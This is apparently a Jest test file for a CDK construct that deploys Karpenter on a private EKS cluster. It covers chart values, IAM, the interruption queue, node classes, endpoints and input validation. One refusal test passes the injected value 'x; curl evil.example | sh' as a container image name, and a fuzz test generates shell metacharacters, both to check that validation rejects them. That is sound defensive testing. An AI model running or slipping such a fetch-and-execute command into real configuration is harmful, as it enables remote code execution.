/**
 * Karpenter on PrivateEksCluster (lib/karpenter/karpenter.ts): the chart and its values (checked against the
 * chart's own values.yaml and Deployment template, v1.14.1 in test/fixtures/karpenter), IAM, the interruption
 * queue and Karpenter's rules (checked against its CloudFormation), the node role, instance profile and access
 * entry, the EC2NodeClasses and the NodePool, the endpoints, the order of deployment, and every refusal.
 */
import * as fs from 'fs';
import * as path from 'path';
import { Stack } from 'aws-cdk-lib';
import * as fc from 'fast-check';
import { Annotations, Match, Template } from 'aws-cdk-lib/assertions';
import * as ec2 from 'aws-cdk-lib/aws-ec2';
import * as eks from 'aws-cdk-lib/aws-eks-v2';
import { EKS_USE_NATIVE_OIDC_PROVIDER } from 'aws-cdk-lib/cx-api';
import * as YAML from 'yaml';
import {
  AddonProfile,
  EndpointPresets,
  EndpointService,
  EndpointSet,
  KarpenterOptions,
  NodeFamily,
  PrivateEksCluster,
  PrivateEksErrors,
  ProxiedNodeGroup,
  ProxySettings,
} from '../../lib';
import { fakeKubectlLayer, isolatedVpc, testStack, tokenText } from '../support/cdk';
import { validationErrorOf } from '../support/errors';

const FIXTURES = path.join(__dirname, '..', 'fixtures', 'karpenter');
const PRIVATE_CHART = 'oci://111122223333.dkr.ecr.eu-west-1.amazonaws.com/karpenter/karpenter';
const PRIVATE_CRD_CHART = 'oci://111122223333.dkr.ecr.eu-west-1.amazonaws.com/karpenter/karpenter-crd';
const PRIVATE_IMAGE = '111122223333.dkr.ecr.eu-west-1.amazonaws.com/karpenter/controller';
const PROXY = ProxySettings.fromUrl('http://proxy.corp.example:3128', { noProxy: ['.corp.example'] });

interface ClusterOptions {
  readonly proxy?: ProxySettings;
  readonly karpenter?: KarpenterOptions;
  readonly nodeGroup?: boolean;
  readonly endpoints?: (stack: Stack, vpc: ec2.IVpc) => EndpointSet;
  readonly addons?: boolean;
}

function cluster(stack: Stack, o: ClusterOptions = {}): PrivateEksCluster {
  const vpc = isolatedVpc(stack);
  const c = new PrivateEksCluster(stack, 'Cluster', {
    vpc,
    version: eks.KubernetesVersion.V1_35,
    kubectlLayer: fakeKubectlLayer(stack),
    proxy: 'proxy' in o ? o.proxy : PROXY,
    karpenter: o.karpenter ?? {},
    endpoints: o.endpoints?.(stack, vpc),
    addons: o.addons ? [{ addon: AddonProfile.POD_IDENTITY_AGENT }] : undefined,
  });
  if (o.nodeGroup ?? true) {
    c.addProxiedNodeGroup('Controllers', { minSize: 2 });
  }
  return c;
}

function resourcesOf(template: Template, type: string): Array<[string, any]> {
  return Object.entries(template.findResources(type));
}

/** The Helm release `release` (the controller's, `karpenter`, by default). */
function chartOf(
  template: Template,
  release = 'karpenter',
): { id: string; props: any; values: any; dependsOn: string[] } {
  const charts = resourcesOf(template, 'Custom::AWSCDK-EKS-HelmChart').filter(
    ([, r]) => r.Properties.Release === release,
  );
  expect(charts.length).toBe(1);
  const [id, r] = charts[0];
  const values = r.Properties.Values === undefined ? undefined : JSON.parse(tokenText(r.Properties.Values));
  return { id, props: r.Properties, values, dependsOn: r.DependsOn ?? [] };
}

function objectsOf(template: Template, kind: string): any[] {
  return resourcesOf(template, 'Custom::AWSCDK-EKS-KubernetesResource')
    .filter(([, r]) => r.Properties.Manifest !== undefined)
    .flatMap(([, r]) => JSON.parse(tokenText(r.Properties.Manifest)))
    .filter((o: any) => o.kind === kind);
}

/** Every key path of a values object, dotted; lists and annotation maps are leaves. */
function valueKeys(values: Record<string, unknown>, prefix = ''): string[] {
  return Object.entries(values).flatMap(([key, value]) =>
    value !== null && typeof value === 'object' && !Array.isArray(value) && !/annotations$/i.test(key)
      ? valueKeys(value as Record<string, unknown>, `${prefix}${key}.`)
      : [`${prefix}${key}`],
  );
}

function hasPath(object: any, dotted: string): boolean {
  return (
    dotted.split('.').reduce<any>((o, k) => (o !== undefined && o !== null && k in o ? o[k] : undefined), object) !==
    undefined
  );
}

/** Each key of `values` is one of the chart's values.yaml, and the Deployment template reads the pod's. */
function expectChartKeys(values: Record<string, unknown>): void {
  const chartValues = YAML.parse(fs.readFileSync(path.join(FIXTURES, 'values.yaml'), 'utf8'));
  const deployment = fs.readFileSync(path.join(FIXTURES, 'deployment.yaml'), 'utf8');
  const keys = valueKeys(values);
  expect(keys.length).toBeGreaterThan(5);
  for (const key of keys) {
    expect({ key, inValuesYaml: hasPath(chartValues, key) }).toEqual({ key, inValuesYaml: true });
  }
  // The keys the pod is made of are read by the Deployment template itself.
  for (const key of keys.filter((k) => !k.startsWith('serviceAccount.'))) {
    expect({ key, read: deployment.includes(`.Values.${key}`) }).toEqual({ key, read: true });
  }
}

describe('behind a proxy (the defaults)', () => {
  const stack = testStack('eu-west-1');
  const c = cluster(stack);
  const template = Template.fromStack(stack);
  const chart = chartOf(template);

  test('the charts: karpenter-crd, then karpenter without its CRDs, 1.14.1 from public ECR into kube-system, waited for', () => {
    const crds = chartOf(template, 'karpenter-crd');
    expect(crds.props).toMatchObject({
      Chart: 'karpenter-crd',
      Repository: 'oci://public.ecr.aws/karpenter/karpenter-crd',
      Version: '1.14.1',
      Namespace: 'kube-system',
      Wait: true,
    });
    expect(crds.values).toBeUndefined();
    expect(chart.props).toMatchObject({
      Chart: 'karpenter',
      Release: 'karpenter',
      Repository: 'oci://public.ecr.aws/karpenter/karpenter',
      Version: '1.14.1',
      Namespace: 'kube-system',
      Wait: true,
      SkipCrds: true,
    });
    expect(chart.dependsOn).toContain(crds.id);
  });

  test('every value key is a key of the chart’s values.yaml that its Deployment template reads', () => {
    expectChartKeys(chart.values);
  });

  test('the values: cluster name and endpoint, not isolated, the queue, the proxy ConfigMap and the settings hash', () => {
    expect(chart.values).toEqual({
      settings: {
        clusterName: '<TOKEN>',
        clusterEndpoint: '<TOKEN>',
        isolatedVPC: false,
        interruptionQueue: '<TOKEN>',
      },
      serviceAccount: { create: true, name: 'karpenter' },
      controller: {
        // Karpenter asks IMDS for the region otherwise, which hop limit 1 keeps from pods.
        env: [{ name: 'AWS_REGION', value: 'eu-west-1' }],
        envFrom: [{ configMapRef: { name: 'proxy-environment-variables' } }],
      },
      podAnnotations: { 'cdk-private-eks.io/proxy-settings-hash': expect.stringMatching(/^[0-9a-f]{16}$/) },
    });
    expect(chart.props.Values['Fn::Join'][1]).toContainEqual({
      'Fn::GetAtt': [expect.stringMatching(/InterruptionQueue/), 'QueueName'],
    });
  });

  test('the chart waits for the proxy ConfigMap, the Pod Identity agent and association, the policies, the node group and the preflight', () => {
    const ids = chart.dependsOn.join(' ');
    for (const part of [
      'KarpenterCrdChart',
      'ProxyEnvironment',
      'Addonekspodidentityagent',
      'PodIdentityAssociation',
      'NodeLifecyclePolicy',
      'ControllersNodegroup',
      'Preflight',
    ]) {
      expect({ part, found: ids.includes(part) }).toEqual({ part, found: true });
    }
  });

  test('Pod Identity: a role for pods.eks.amazonaws.com (AssumeRole and TagSession) associated with kube-system/karpenter', () => {
    template.hasResourceProperties('AWS::EKS::PodIdentityAssociation', {
      Namespace: 'kube-system',
      ServiceAccount: 'karpenter',
    });
    template.hasResourceProperties('AWS::IAM::Role', {
      AssumeRolePolicyDocument: Match.objectLike({
        Statement: [
          Match.objectLike({
            Action: ['sts:AssumeRole', 'sts:TagSession'],
            Principal: { Service: 'pods.eks.amazonaws.com' },
          }),
        ],
      }),
    });
    expect(resourcesOf(template, 'AWS::EKS::Addon').map(([, r]) => r.Properties.AddonName)).toEqual([
      'eks-pod-identity-agent',
    ]);
  });

  test('the interruption queue: SSE, 5 minutes, TLS only, and Karpenter’s five EventBridge rules on it', () => {
    template.hasResourceProperties('AWS::SQS::Queue', { MessageRetentionPeriod: 300, SqsManagedSseEnabled: true });
    const customTags = ['!Sub', '!Ref', '!GetAtt'].map((tag) => ({ tag, resolve: (v: string) => ({ [tag]: v }) }));
    const upstream = YAML.parse(fs.readFileSync(path.join(FIXTURES, 'cloudformation.yaml'), 'utf8'), {
      customTags,
    }).Resources;
    const patterns = (rules: any[]) => rules.map((r) => JSON.stringify(r.Properties.EventPattern)).sort();
    const theirs = Object.values<any>(upstream).filter((r) => r.Type === 'AWS::Events::Rule');
    const ours = resourcesOf(template, 'AWS::Events::Rule').map(([, r]) => r);
    expect(patterns(ours)).toEqual(patterns(theirs));
    for (const rule of ours) {
      expect(rule.Properties.Targets).toEqual([
        expect.objectContaining({ Arn: { 'Fn::GetAtt': [expect.stringMatching(/InterruptionQueue/), 'Arn'] } }),
      ]);
    }
    const policy = resourcesOf(template, 'AWS::SQS::QueuePolicy')[0][1].Properties.PolicyDocument.Statement;
    expect(policy).toContainEqual(
      expect.objectContaining({ Effect: 'Deny', Condition: { Bool: { 'aws:SecureTransport': 'false' } } }),
    );
  });

  test('the nodes: the EKS node policies, an instance profile with the role, an EC2_LINUX access entry', () => {
    const profiles = resourcesOf(template, 'AWS::IAM::InstanceProfile');
    expect(profiles.length).toBe(1);
    const roleId = profiles[0][1].Properties.Roles[0].Ref;
    const role = template.toJSON().Resources[roleId];
    expect(JSON.stringify(role.Properties.ManagedPolicyArns)).toMatch(
      /AmazonEKSWorkerNodePolicy.*AmazonEKS_CNI_Policy.*AmazonEC2ContainerRegistryPullOnly/,
    );
    template.hasResourceProperties('AWS::EKS::AccessEntry', {
      Type: 'EC2_LINUX',
      PrincipalArn: { 'Fn::GetAtt': [roleId, 'Arn'] },
    });
  });

  test('one EC2NodeClass on the instance profile, the node subnets and the cluster security group, with our user data', () => {
    const classes = objectsOf(template, 'EC2NodeClass');
    expect(classes.map((o) => o.metadata.name)).toEqual(['cdk-private-eks-al2023']);
    expect(classes[0].spec).toMatchObject({
      amiSelectorTerms: [{ alias: 'al2023@latest' }],
      instanceProfile: '<TOKEN>',
      subnetSelectorTerms: [{ id: '<TOKEN>' }, { id: '<TOKEN>' }],
      securityGroupSelectorTerms: [{ id: '<TOKEN>' }],
      metadataOptions: { httpTokens: 'required', httpPutResponseHopLimit: 1 },
    });
    expect(classes[0].spec.userData).toMatch(/^MIME-Version: 1.0\n/);
    expect(classes[0].spec.userData).toContain('HTTPS_PROXY');
    expect(c.karpenter!.nodeClassNames).toEqual(['cdk-private-eks-al2023']);
    const pools = objectsOf(template, 'NodePool');
    expect(pools.map((p) => [p.metadata.name, p.spec.template.spec.nodeClassRef.name])).toEqual([
      ['cdk-private-eks-default', 'cdk-private-eks-al2023'],
    ]);
  });

  test('the endpoints Karpenter documents join the cluster’s EndpointSet, with EKS Auth for Pod Identity', () => {
    for (const s of [...AddonProfile.KARPENTER.services, EndpointService.EKS_AUTH]) {
      expect({ service: s.name, served: c.endpoints.has(s) }).toEqual({ service: s.name, served: true });
    }
  });

  test('the synth notes name what the proxy must let through; no warning', () => {
    const notes = Annotations.fromStack(stack).findInfo(
      '*',
      Match.stringLikeRegexp('Karpenter reaches through the proxy'),
    );
    expect(notes.length).toBe(1);
    expect(notes[0].entry.data).toMatch(
      /public\.ecr\.aws.*api\.pricing\.us-east-1\.amazonaws\.com.*iam\.amazonaws\.com/,
    );
    expect(Annotations.fromStack(stack).findWarning('*', Match.stringLikeRegexp('Karpenter'))).toEqual([]);
  });
});

test('a TLS-inspecting proxy: the controller mounts the CA bundle ConfigMap and trusts it, with chart keys', () => {
  const stack = testStack('eu-west-1');
  const caBundle = fs.readFileSync(path.join(__dirname, '..', 'fixtures', 'ca', 'inspection-root-ca.pem'), 'utf8');
  cluster(stack, { proxy: ProxySettings.fromUrl('http://proxy.corp.example:3128', { caBundle }) });
  const template = Template.fromStack(stack);
  const values = chartOf(template).values;
  expect(values.extraVolumes).toEqual([{ name: expect.any(String), configMap: { name: 'proxy-ca-bundle' } }]);
  expect(values.controller.extraVolumeMounts).toEqual([
    { name: values.extraVolumes[0].name, mountPath: expect.any(String), readOnly: true },
  ]);
  expect(values.controller.env).toEqual([
    { name: 'AWS_REGION', value: 'eu-west-1' },
    { name: 'SSL_CERT_DIR', value: expect.stringContaining(values.controller.extraVolumeMounts[0].mountPath) },
  ]);
  expectChartKeys(values);
  expect(chartOf(template).dependsOn.join(' ')).toMatch(/ProxyCaBundle/);
});

test('Bottlerocket too: a second EC2NodeClass with the TOML network settings', () => {
  const stack = testStack('eu-west-1');
  cluster(stack, { karpenter: { nodeFamilies: [NodeFamily.AMAZON_LINUX_2023, NodeFamily.BOTTLEROCKET] } });
  const classes = objectsOf(Template.fromStack(stack), 'EC2NodeClass');
  expect(classes.map((o) => [o.metadata.name, o.spec.amiSelectorTerms[0].alias])).toEqual([
    ['cdk-private-eks-al2023', 'al2023@latest'],
    ['cdk-private-eks-bottlerocket', 'bottlerocket@latest'],
  ]);
  expect(classes[1].spec.userData).toMatch(/^\[settings\.network\]\nhttps-proxy = "proxy\.corp\.example:3128"/);
});

test('the Pod Identity agent added by the user is reused, not added twice', () => {
  const stack = testStack('eu-west-1');
  cluster(stack, { addons: true });
  const template = Template.fromStack(stack);
  expect(resourcesOf(template, 'AWS::EKS::Addon').length).toBe(1);
  expect(chartOf(template).dependsOn.join(' ')).toContain('Addonekspodidentityagent');
});

test('IRSA: aws-eks-v2’s service account with the role annotation, which the chart then does not create', () => {
  // The app's native OIDC provider flag, as `cdk init` writes cdk.json (aws-cdk-lib 2.237+).
  const stack = testStack('eu-west-1', { [EKS_USE_NATIVE_OIDC_PROVIDER]: true });
  cluster(stack, { karpenter: { identityType: eks.IdentityType.IRSA } });
  const template = Template.fromStack(stack);
  expect(chartOf(template).values.serviceAccount).toEqual({ create: false, name: 'karpenter' });
  const accounts = objectsOf(template, 'ServiceAccount');
  expect(accounts.map((a) => [a.metadata.namespace, a.metadata.name, Object.keys(a.metadata.annotations)])).toEqual([
    ['kube-system', 'karpenter', ['eks.amazonaws.com/role-arn']],
  ]);
  expect(resourcesOf(template, 'AWS::EKS::PodIdentityAssociation')).toEqual([]);
  expect(resourcesOf(template, 'AWS::EKS::Addon')).toEqual([]);
  // The app's flag: the native provider, no custom resource, no warning of ours.
  expect(resourcesOf(template, 'AWS::IAM::OIDCProvider')).toHaveLength(1);
  expect(resourcesOf(template, 'Custom::AWSCDKOpenIdConnectProvider')).toEqual([]);
  expect(Annotations.fromStack(stack).findWarning('*', Match.stringLikeRegexp('OIDC'))).toEqual([]);
});

test('IRSA without the native OIDC provider flag: a warning naming the flag and the fix', () => {
  const stack = testStack('eu-west-1');
  const warn = jest.spyOn(console, 'warn').mockImplementation(() => undefined);
  try {
    cluster(stack, { karpenter: { identityType: eks.IdentityType.IRSA } });
    // aws-cdk-lib's own deprecation warning, which names neither the flag nor the cause.
    expect(warn.mock.calls.map((c) => c.join(' '))).toEqual([
      expect.stringContaining('aws_eks_v2.OpenIdConnectProvider is deprecated'),
    ]);
  } finally {
    warn.mockRestore();
  }
  const template = Template.fromStack(stack);
  expect(resourcesOf(template, 'Custom::AWSCDKOpenIdConnectProvider')).toHaveLength(1);
  const warnings = Annotations.fromStack(stack).findWarning('*', Match.stringLikeRegexp('OIDC'));
  expect(warnings.map((w) => String(w.entry.data))).toEqual([
    expect.stringMatching(
      /^karpenter\.identityType IRSA: .*deprecated OIDC provider.*"@aws-cdk\/aws-eks:useNativeOidcProvider"\. Set it to true in cdk\.json "context"/,
    ),
  ]);
});

describe('a closed network (no proxy)', () => {
  test('refuses the public chart and image, naming the prop and the fix', () => {
    const stack = testStack('eu-west-1');
    expect(validationErrorOf(() => cluster(stack, { proxy: undefined })).message).toMatch(
      /karpenter\.chartRepository is not set, so the chart would come from oci:\/\/public\.ecr\.aws.*Copy the chart into a private ECR repository/,
    );
    const stack2 = testStack('eu-west-1');
    expect(
      validationErrorOf(() => cluster(stack2, { proxy: undefined, karpenter: { chartRepository: PRIVATE_CHART } }))
        .message,
    ).toMatch(
      /karpenter\.crdChartRepository is not set, so the chart would come from oci:\/\/public\.ecr\.aws\/karpenter\/karpenter-crd/,
    );
    const stack3 = testStack('eu-west-1');
    expect(
      validationErrorOf(() =>
        cluster(stack3, {
          proxy: undefined,
          karpenter: { chartRepository: PRIVATE_CHART, crdChartRepository: PRIVATE_CRD_CHART },
        }),
      ).message,
    ).toMatch(/karpenter\.controllerImage is not set.*keeping its digest/);
  });

  test('with private copies: isolatedVPC, the private image, no pricing or IAM reads, the SQS and SSM endpoints', () => {
    const stack = testStack('eu-west-1');
    const c = cluster(stack, {
      proxy: undefined,
      karpenter: {
        chartRepository: PRIVATE_CHART,
        crdChartRepository: PRIVATE_CRD_CHART,
        controllerImage: PRIVATE_IMAGE,
      },
    });
    const template = Template.fromStack(stack);
    const chart = chartOf(template);
    expect(chart.props.Repository).toBe(PRIVATE_CHART);
    expect(chartOf(template, 'karpenter-crd').props.Repository).toBe(PRIVATE_CRD_CHART);
    expect(chart.values.settings.isolatedVPC).toBe(true);
    expect(chart.values.controller).toEqual({
      image: { repository: PRIVATE_IMAGE },
      env: [{ name: 'AWS_REGION', value: 'eu-west-1' }],
    });
    expect(chart.values.podAnnotations).toBeUndefined();
    const discovery = JSON.stringify(
      resourcesOf(template, 'AWS::IAM::ManagedPolicy').map(([, r]) => r.Properties.PolicyDocument),
    );
    expect(discovery).not.toMatch(/pricing:|iam:ListInstanceProfiles|iam:GetInstanceProfile/);
    expect(c.endpoints.has(EndpointService.SQS) && c.endpoints.has(EndpointService.SSM)).toBe(true);
  });

  test('an EndpointSet of one’s own without SQS is refused, naming karpenter', () => {
    const stack = testStack('eu-west-1');
    const error = validationErrorOf(() =>
      cluster(stack, {
        proxy: undefined,
        karpenter: {
          chartRepository: PRIVATE_CHART,
          crdChartRepository: PRIVATE_CRD_CHART,
          controllerImage: PRIVATE_IMAGE,
        },
        endpoints: (s, vpc) =>
          new EndpointSet(s, 'Endpoints', {
            vpc,
            services: [...EndpointPresets.minimal(), EndpointService.SSM, EndpointService.EKS_AUTH],
          }),
      }),
    );
    expect(error.message).toMatch(/karpenter has no endpoint for sqs: there is no proxy, so the Karpenter controller/);
  });
});

test.each<[string, KarpenterOptions, RegExp]>([
  ['Amazon Linux 2', { nodeFamilies: [NodeFamily.AMAZON_LINUX_2] }, /karpenter\.nodeFamilies\[0\] is AL2/],
  ['no family', { nodeFamilies: [] }, /karpenter\.nodeFamilies is empty/],
  [
    'a family twice',
    { nodeFamilies: [NodeFamily.BOTTLEROCKET, NodeFamily.BOTTLEROCKET] },
    /nodeFamilies\[1\] names BOTTLEROCKET twice/,
  ],
  [
    'a chart version that is not one',
    { chartVersion: '1.14' },
    /karpenter\.chartVersion '1\.14' is not a chart version/,
  ],
  [
    'a chart repository with a tag',
    { chartRepository: `${PRIVATE_CHART}:1.14.1` },
    /karpenter\.chartRepository .* is not an OCI repository/,
  ],
  ['a chart repository over https', { chartRepository: 'https://charts.karpenter.sh' }, /is not an OCI repository/],
  [
    'a CRD chart repository with a digest',
    { crdChartRepository: `${PRIVATE_CRD_CHART}@sha256:${'0'.repeat(64)}` },
    /karpenter\.crdChartRepository .* is not an OCI repository/,
  ],
  [
    'an image with a tag',
    { controllerImage: `${PRIVATE_IMAGE}:1.14.1` },
    /karpenter\.controllerImage .* is not an image repository/,
  ],
  ['a shell command as image', { controllerImage: 'x; curl evil.example | sh' }, /karpenter\.controllerImage/],
  [
    'a digest that is not one',
    { controllerImageDigest: 'sha256:abc' },
    /karpenter\.controllerImageDigest 'sha256:abc' is not a sha256 digest/,
  ],
])('refuses %s, naming the prop', (_name, karpenter, message) => {
  const stack = testStack('eu-west-1');
  expect(validationErrorOf(() => cluster(stack, { karpenter })).message).toMatch(message);
});

test('isolatedVpc false without a proxy is refused: pricing and IAM have no endpoint', () => {
  const stack = testStack('eu-west-1');
  const karpenter = {
    chartRepository: PRIVATE_CHART,
    crdChartRepository: PRIVATE_CRD_CHART,
    controllerImage: PRIVATE_IMAGE,
    isolatedVpc: false,
  };
  expect(validationErrorOf(() => cluster(stack, { proxy: undefined, karpenter })).message).toMatch(
    /karpenter\.isolatedVpc is false without a proxy/,
  );
});

test('Auto Mode and Karpenter together are refused', () => {
  const stack = testStack('eu-west-1');
  const error = validationErrorOf(
    () =>
      new PrivateEksCluster(stack, 'Cluster', {
        vpc: isolatedVpc(stack),
        version: eks.KubernetesVersion.V1_35,
        kubectlLayer: fakeKubectlLayer(stack),
        proxy: PROXY,
        autoMode: {},
        karpenter: {},
      }),
  );
  expect(error.message).toMatch(/karpenter is set together with autoMode, which runs Karpenter itself/);
});

test('without a node group of the cluster, a warning: the controller needs nodes Karpenter does not manage', () => {
  const stack = testStack('eu-west-1');
  cluster(stack, { nodeGroup: false });
  const warnings = Annotations.fromStack(stack).findWarning(
    '*',
    Match.stringLikeRegexp('runs on nodes it does not manage'),
  );
  expect(warnings.length).toBe(1);
});
test('a group of one’s own given to runControllerOn: the chart waits for it, no warning', () => {
  const stack = testStack('eu-west-1');
  const c = cluster(stack, { nodeGroup: false });
  const group = new ProxiedNodeGroup(stack, 'Own', { nodeContext: c.nodeContext, minSize: 2 });
  c.karpenter!.runControllerOn(group.nodegroup);
  const template = Template.fromStack(stack);
  expect(
    Annotations.fromStack(stack).findWarning('*', Match.stringLikeRegexp('runs on nodes it does not manage')),
  ).toEqual([]);
  expect(chartOf(template).dependsOn.join(' ')).toMatch(/OwnNodegroup/);
});

test('interruption handling off: no queue, no rules, no SQS statement', () => {
  const stack = testStack('eu-west-1');
  cluster(stack, { karpenter: { interruptionHandling: false } });
  const template = Template.fromStack(stack);
  expect(resourcesOf(template, 'AWS::SQS::Queue')).toEqual([]);
  expect(resourcesOf(template, 'AWS::Events::Rule')).toEqual([]);
  expect(chartOf(template).values.settings.interruptionQueue).toBeUndefined();
  expect(JSON.stringify(template.toJSON())).not.toMatch(/sqs:ReceiveMessage/);
});

test('generated repositories and images: refused with our error, or carried as data, verbatim', () => {
  const piece = fc.oneof(
    fc.constantFrom('a', '0', '.', '-', '/', ':', '@', '_', 'sha256:', '"', "'", '$(', '`', ';', ' ', '\n', '{{'),
    fc.string({ unit: 'grapheme', maxLength: 3 }),
  );
  const tail = fc.array(piece, { maxLength: 6 }).map((p) => p.join(''));
  // Half start from a valid value, so that both outcomes happen.
  const repositories = fc.oneof(
    tail.map((t) => `${PRIVATE_CHART}${t}`),
    tail,
  );
  const images = fc.oneof(
    tail.map((t) => `${PRIVATE_IMAGE}${t}`),
    tail,
  );
  let accepted = 0;
  let refused = 0;
  fc.assert(
    fc.property(repositories, images, (repository, image) => {
      const stack = testStack('eu-west-1');
      try {
        cluster(stack, { karpenter: { chartRepository: repository, controllerImage: image } });
      } catch (e) {
        expect(PrivateEksErrors.isValidationError(e)).toBe(true);
        refused += 1;
        return;
      }
      accepted += 1;
      const chart = chartOf(Template.fromStack(stack));
      expect(chart.props.Repository).toBe(repository);
      expect(chart.values.controller.image.repository).toBe(image);
      expect(repository).toMatch(/^oci:\/\/[a-z0-9.-]+(:[0-9]+)?\/[a-z0-9._/-]+$/);
      expect(image).toMatch(/^[a-z0-9.-]+(:[0-9]+)?\/[a-z0-9._/-]+$/);
    }),
    { numRuns: 80, seed: 15 },
  );
  expect(accepted).toBeGreaterThan(0);
  expect(refused).toBeGreaterThan(0);
});

test('pinned AMI versions go into the aliases, valid for the CRD; latest gets a note naming the props', () => {
  const stack = testStack('eu-west-1');
  cluster(stack, {
    karpenter: {
      nodeFamilies: [NodeFamily.AMAZON_LINUX_2023, NodeFamily.BOTTLEROCKET],
      al2023AmiVersion: 'v20251120',
      bottlerocketAmiVersion: 'v1.50.0',
    },
  });
  const classes = objectsOf(Template.fromStack(stack), 'EC2NodeClass');
  expect(classes.map((o) => o.spec.amiSelectorTerms)).toEqual([
    [{ alias: 'al2023@v20251120' }],
    [{ alias: 'bottlerocket@v1.50.0' }],
  ]);
  expect(Annotations.fromStack(stack).findInfo('*', Match.stringLikeRegexp('follow the latest AMI'))).toEqual([]);
  const latest = testStack('eu-west-1');
  cluster(latest);
  const notes = Annotations.fromStack(latest).findInfo('*', Match.stringLikeRegexp('follow the latest AMI'));
  expect(notes.map((n) => n.entry.data)).toEqual([expect.stringMatching(/set al2023AmiVersion$/)]);
});

test.each<[string, KarpenterOptions, RegExp]>([
  [
    'an AL2023 version in Bottlerocket form',
    { al2023AmiVersion: 'v1.20.4' },
    /karpenter\.al2023AmiVersion 'v1\.20\.4' is not a AL2023 AMI release/,
  ],
  [
    'a Bottlerocket version in AL2023 form',
    { nodeFamilies: [NodeFamily.BOTTLEROCKET], bottlerocketAmiVersion: 'v20240807' },
    /karpenter\.bottlerocketAmiVersion/,
  ],
  [
    'a version for a family not in use',
    { bottlerocketAmiVersion: 'v1.20.4' },
    /karpenter\.bottlerocketAmiVersion is set, but nodeFamilies has no BOTTLEROCKET/,
  ],
  ['a version with a quote', { al2023AmiVersion: "v20240807'" }, /karpenter\.al2023AmiVersion/],
])('refuses %s', (_name, karpenter, message) => {
  const stack = testStack('eu-west-1');
  expect(validationErrorOf(() => cluster(stack, { karpenter })).message).toMatch(message);
});
